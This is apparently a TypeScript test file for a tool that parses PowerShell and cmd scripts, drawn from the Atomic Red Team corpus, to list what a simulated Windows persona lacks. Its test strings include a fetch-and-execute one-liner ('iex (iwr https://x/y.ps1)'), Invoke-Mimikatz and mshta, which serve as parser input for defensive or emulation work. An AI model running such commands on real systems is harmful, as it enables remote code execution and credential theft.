import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect } from 'chai';
import { cmdNeeds } from '../../src/windows/needs/cmd-needs.ts';
import { isGap, type Need } from '../../src/windows/needs/need.ts';
import { powerShellNeeds } from '../../src/windows/needs/powershell-needs.ts';

const archive = resolve(process.env['TOCSIN_CORPUS'] ?? '../shared/data', 'atomic-red-team/atomics-yaml.tar.gz');
const root = resolve(import.meta.dirname, '../..');

const shown = (needs: readonly Need[]): string[] => needs.map(({ kind, name }) => `${kind} ${name}`);

describe('what a script needs that the persona lacks', () => {
  it('is nothing for what it has: cmdlets by alias, functions of the script, programs, types', () => {
    expect(
      powerShellNeeds(
        'function f { 1 }; f; gci | ? { $_.Length } | select Name; whoami; [Math]::Max(1, 2); (New-Object Net.WebClient).Headers',
      ),
    ).to.deep.equal([]);
    expect(cmdNeeds('dir & set /a X=1 & if exist x (type x) else echo no')).to.deep.equal([]);
  });

  it('is named by kind: cmdlets, parameters, programs, types, members, COM objects, statements', () => {
    expect(
      shown(
        powerShellNeeds(
          'Get-WinEvent; Get-Content x -Wait; mshta x; New-Object Foo.Bar; [Foo]::Baz(); New-Object -ComObject A.B; class C { }',
        ),
      ),
    ).to.have.members([
      'cmdlet Get-WinEvent',
      'parameter Get-Content -Wait',
      'program mshta',
      'type Foo.Bar',
      'member [Foo]::Baz',
      'com A.B',
      'parameter New-Object -ComObject',
      'statement class',
    ]);
  });

  it('is found in text that another shell is given', () => {
    expect(shown(cmdNeeds('powershell -c "Get-WinEvent" & cmd /c "mshta x"'))).to.deep.equal([
      'cmdlet Get-WinEvent',
      'program mshta',
    ]);
    expect(shown(powerShellNeeds('iex "Get-WinEvent"'))).to.deep.equal(['cmdlet Get-WinEvent']);
  });

  it('is no gap of the persona where the test brings it', () => {
    const needs = [...powerShellNeeds('Invoke-Mimikatz; iex (iwr https://x/y.ps1)'), ...cmdNeeds('C:\\Tools\\x.exe')];
    expect(needs.map(({ kind }) => kind)).to.deep.equal(['module', 'download', 'file']);
    expect(needs.filter(isGap)).to.deep.equal([]);
  });

  it('is counted in docs/persona.md as it is now (node bench/persona.ts > docs/persona.md)', function () {
    this.timeout(60_000);
    if (!existsSync(archive) && process.env['TOCSIN_REQUIRE_CORPUS'] !== '1') return this.skip();
    const made = execFileSync(process.execPath, [join(root, 'bench/persona.ts'), archive], { encoding: 'utf8' });
    expect(readFileSync(join(root, 'docs/persona.md'), 'utf8')).to.equal(made);
  });
});
